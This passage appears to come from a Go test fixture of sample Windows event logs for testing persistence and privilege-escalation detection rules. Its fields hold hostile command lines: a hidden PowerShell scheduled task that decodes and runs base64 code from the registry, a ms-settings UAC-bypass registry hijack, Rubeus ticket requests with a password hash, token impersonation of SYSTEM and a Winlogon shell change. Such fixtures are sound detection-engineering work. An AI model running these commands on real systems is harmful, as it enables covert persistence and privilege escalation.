		ID:      "92d6cb57-f024-402e-bdf2-06b1682b8109", // Run Key Written by a Script Host or Shell
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Image":        "C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"TargetObject": "HKU\\S-1-5-21-3125456671-949036322-3048627137-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
		},
	},
	{
		ID:      "c39f5e02-aa73-4f03-9b75-437a8725bc23", // Service Created or Reconfigured to Run a Shell or Script
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "sc  config Fax binPath= \"C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c \\\"write-host 'T1543.003 Test'\\\"\"",
			"Image":       "C:\\Windows\\System32\\sc.exe",
		},
	},
	{
		ID:      "1a8d9e6f-ecd8-4be3-b284-e1a479b2e8c0", // Scheduled Task Registered From PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(New-ScheduledTaskAction): \"New-ScheduledTaskAction\"\r\nParameterBinding(New-ScheduledTaskAction): name=\"Execute\"; value=\"powershell.exe\"",
		},
	},
	{
		ID:      "8c603aef-e7ac-44cb-9b40-b0e601d9fa8c", // Scheduled Task Registered or Updated With a Suspicious Action
		Channel: "Security", EventID: 4698,
		Fields: map[string]string{
			"SubjectUserName": "pgustavo",
			"TaskContent":     "&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;\r\n&lt;Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"&gt;\r\n  &lt;RegistrationInfo&gt;\r\n    &lt;Date&gt;2020-09-21T03:15:45&lt;/Date&gt;\r\n    &lt;Author&gt;THESHIRE\\pgustavo&lt;/Author&gt;\r\n    &lt;URI&gt;\\MordorSchtask&lt;/URI&gt;\r\n  &lt;/RegistrationInfo&gt;\r\n  &lt;Triggers&gt;\r\n    &lt;CalendarTrigger&gt;\r\n      &lt;StartBoundary&gt;2020-09-21T09:00:00&lt;/StartBoundary&gt;\r\n      &lt;Enabled&gt;true&lt;/Enabled&gt;\r\n      &lt;ScheduleByDay&gt;\r\n        &lt;DaysInterval&gt;1&lt;/DaysInterval&gt;\r\n      &lt;/ScheduleByDay&gt;\r\n    &lt;/CalendarTrigger&gt;\r\n  &lt;/Triggers&gt;\r\n  &lt;Settings&gt;\r\n    &lt;MultipleInstancesPolicy&gt;IgnoreNew&lt;/MultipleInstancesPolicy&gt;\r\n    &lt;DisallowStartIfOnBatteries&gt;true&lt;/DisallowStartIfOnBatteries&gt;\r\n    &lt;StopIfGoingOnBatteries&gt;true&lt;/StopIfGoingOnBatteries&gt;\r\n    &lt;AllowHardTerminate&gt;true&lt;/AllowHardTerminate&gt;\r\n    &lt;StartWhenAvailable&gt;false&lt;/StartWhenAvailable&gt;\r\n    &lt;RunOnlyIfNetworkAvailable&gt;false&lt;/RunOnlyIfNetworkAvailable&gt;\r\n    &lt;IdleSettings&gt;\r\n      &lt;Duration&gt;PT10M&lt;/Duration&gt;\r\n      &lt;WaitTimeout&gt;PT1H&lt;/WaitTimeout&gt;\r\n      &lt;StopOnIdleEnd&gt;true&lt;/StopOnIdleEnd&gt;\r\n      &lt;RestartOnIdle&gt;false&lt;/RestartOnIdle&gt;\r\n    &lt;/IdleSettings&gt;\r\n    &lt;AllowStartOnDemand&gt;true&lt;/AllowStartOnDemand&gt;\r\n    &lt;Enabled&gt;true&lt;/Enabled&gt;\r\n    &lt;Hidden&gt;false&lt;/Hidden&gt;\r\n    &lt;RunOnlyIfIdle&gt;false&lt;/RunOnlyIfIdle&gt;\r\n    &lt;WakeToRun&gt;false&lt;/WakeToRun&gt;\r\n    &lt;ExecutionTimeLimit&gt;PT72H&lt;/ExecutionTimeLimit&gt;\r\n    &lt;Priority&gt;7&lt;/Priority&gt;\r\n  &lt;/Settings&gt;\r\n  &lt;Actions Context=\"Author\"&gt;\r\n    &lt;Exec&gt;\r\n      &lt;Command&gt;C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe&lt;/Command&gt;\r\n      &lt;Arguments&gt;-NonI -W hidden -c \"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion debug).debug)))\"&lt;/Arguments&gt;\r\n    &lt;/Exec&gt;\r\n  &lt;/Actions&gt;\r\n  &lt;Principals&gt;\r\n    &lt;Principal id=\"Author\"&gt;\r\n      &lt;UserId&gt;THESHIRE\\pgustavo&lt;/UserId&gt;\r\n      &lt;LogonType&gt;InteractiveToken&lt;/LogonType&gt;\r\n      &lt;RunLevel&gt;LeastPrivilege&lt;/RunLevel&gt;\r\n    &lt;/Principal&gt;\r\n  &lt;/Principals&gt;\r\n&lt;/Task&gt;",
		},
	},
	{
		ID:      "8aa0efe0-5888-4e83-99a2-ca7392096844", // User Account Registers or Changes a Task Under the Windows Task Folder
		Channel: "Security", EventID: 4698,
		Fields: map[string]string{
			"SubjectUserName": "pgustavo",
			"TaskName":        "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
		},
	},
	{
		ID:      "30b3fe5c-1f9b-464e-b29c-fc048343a319", // Scheduled Task Created With a Script Host, Encoded or Remote Action
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\schtasks.exe\" /Create /F /SC DAILY /ST 09:00 /TN MordorSchtask /TR \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NonI -W hidden -c \\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion debug).debug)))\\\"\"",
		},
	},
	{
		ID:      "edc9e05f-010f-4603-9a2b-fa452c9cd659", // Scheduled Task Created or Changed on a Remote Computer
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Windows\\system32\\cmd.exe\" /C schtasks /create /F /tn \\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager /tr \"C:\\Windows\\system32\\cmd.exe /C C:\\Windows\\System32\\notepad.exe\" /sc ONSTART /ru system /S WORKSTATION6",
			"Image":       "C:\\Windows\\System32\\cmd.exe",
		},
	},
	{
		ID:      "b580a8fe-9823-4a11-8d3d-3b618f2b04a9", // Service ImagePath Changed to a Shell or Script
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Details":      "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
			"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\rtcpef\\ImagePath",
		},
	},
	{
		ID:      "7cded086-e143-4f5c-ae9e-1503f610ab4a", // Remote Execution Service Installed
		Channel: "System", EventID: 7045,
		Fields: map[string]string{
			"ServiceName": "PSEXESVC",
			"ImagePath":   "%SystemRoot%\\PSEXESVC.exe",
		},
	},
	{
		ID:      "1c997873-23ce-4a49-ae75-07a31fb47160", // Service Installed With a Shell, Script or User-Path Binary
		Channel: "System", EventID: 7045,
		Fields: map[string]string{
			"ImagePath": "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
		},
	},
	{
		ID:      "4a9d9281-aa0c-4245-af5e-b07d4c20a9da", // Service Installed With a Shell, Script or User-Path Binary (Security Log)
		Channel: "Security", EventID: 4697,
		Fields: map[string]string{
			"ServiceFileName": "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
		},
	},
	{
		ID:      "5ff6dec4-faa5-4fb1-bb47-c6866e667dc1", // Script or Executable Dropped in a Startup Folder
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
		Fields: map[string]string{
			"Image":          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"TargetFilename": "C:\\Users\\wardog\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta",
		},
	},
	{
		ID:      "a1c57057-0d4d-4b1e-9690-4bddd04ffe2b", // Winlogon Shell or Userinit Value Modified
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Image":        "C:\\Windows\\System32\\reg.exe",
			"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell",
			"Details":      "explorer.exe, C:\\Users\\Public\\x.exe",
		},
	},
	{
		ID:      "2c863414-5864-4b0f-8556-70b864d8b887", // WMI Event Subscription Created
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 19,
		Fields: map[string]string{},
	},
	{
		ID:      "195cedb5-0def-453b-968d-e735f9fc5231", // WMI Script Event Consumer Host Started
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image": "C:\\Windows\\System32\\wbem\\scrcons.exe",
		},
	},
	{
		ID:      "b3e3a1fc-791e-419a-8cdb-97287bb632bd", // WMI Event Subscription Created From PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments $args",
		},
	},
	{
		ID:      "bf5b837b-c4b8-4343-afac-2b4713f7fb55", // Auto-Elevating Binary Launched by a Script Host
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\fodhelper.exe",
			"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		},
	},
	{
		ID:      "d648ede1-6c7f-442a-9945-3a7224054236", // Auto-Elevating Windows Binary Spawns a Shell
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ParentImage": "C:\\Windows\\System32\\fodhelper.exe",
		},
	},
	{
		ID:      "bb57af0c-33ec-490d-9364-03619557dd2c", // Named Pipe Impersonation Command (getsystem)
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"ParentImage": "C:\\Windows\\System32\\services.exe",
			"Image":       "C:\\Windows\\System32\\cmd.exe",
			"CommandLine": "cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef",
		},
	},
	{
		ID:      "c0e16596-efa5-40c1-b349-1ae9a3586304", // Service Created to Connect to a Named Pipe (getsystem)
		Channel: "System", EventID: 7045,
		Fields: map[string]string{
			"ImagePath": "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
		},
	},
	{
		ID:      "385261ff-ce3b-488f-9534-13d228d6d8c3", // Logon With New Credentials (Type 9) From a Non-Standard Process
		Channel: "Security", EventID: 4624,
		Fields: map[string]string{
			"LogonType":   "9",
			"ProcessName": "C:\\Users\\bob\\Desktop\\tool.exe",
		},
	},
	{
		ID:      "2e74deb9-98a0-46c8-8094-19685b20b263", // Process Started With Alternate Network-Only Credentials
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\users\\sbeavers\\Desktop\\Rubeus.exe\" asktgt /user:pgustavo /rc4:81d310fa34e6a56a31145445891bb7b8 /createnetonly:C:\\Windows\\System32\\cmd.exe",
		},
	},
	{
		ID:      "5b432fb6-e6d2-4c30-87ca-c9204a6c1861", // Service Control Manager Starts Rundll32 With a Temp-Folder DLL
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
			"Image":       "C:\\Windows\\System32\\rundll32.exe",
			"ParentImage": "C:\\Windows\\System32\\services.exe",
		},
	},
	{
		ID:      "33fffcd1-10fe-4b16-a65e-0064ad53cb8c", // Token Manipulation Cmdlets or APIs in PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "Invoke-TokenManipulation -ImpersonateUser -Username \"NT AUTHORITY\\SYSTEM\"",
		},
	},
	{
		ID:      "6efcab1b-6341-47d1-8770-2f38b7aba07c", // UAC Bypass Handler Written Through PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Get-ItemProperty): \"Get-ItemProperty\"\r\nParameterBinding(Get-ItemProperty): name=\"Path\"; value=\"HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command\"\r\nParameterBinding(Get-ItemProperty): name=\"Name\"; value=\"(default)\"\r\nParameterBinding(Get-ItemProperty): name=\"ErrorAction\"; value=\"SilentlyContinue\"\r\nNonTerminatingError(Get-ItemProperty): \"Cannot find path 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' because it does not exist.\"\r\n",
		},
	},
	{
		ID:      "2f2e8b62-c302-46a0-9a5a-232ff2afe2df", // UAC Bypass Handler Written From a Command or Script
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\reg.exe",
			"CommandLine": "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d cmd.exe /f",
		},
	},
	{
		ID:      "890c8857-ca08-4795-a367-3ab2c3413b5b", // UAC Bypass Through a Shell Open Command Hijack
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 12,
		Fields: map[string]string{
			"TargetObject": "HKU\\S-1-5-21-3125456671-949036322-3048627137-1104_Classes\\ms-settings\\Shell\\Open\\command",
		},
	},
	{
		ID:      "ff5cb3e3-d7b5-44d1-a6f0-76ba4e2f2a48", // Executable Downloaded From the Internet by a Browser
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
		Fields: map[string]string{
			"Image":          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
			"TargetFilename": "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe:Zone.Identifier",
		},
	},
	{
		ID:      "c98f8e02-175c-41a1-b51b-d4f0aff45859", // Unsigned Executable From the Downloads Folder Runs
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"ImageLoaded": "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"Signed":      "false",
		},
	},
}
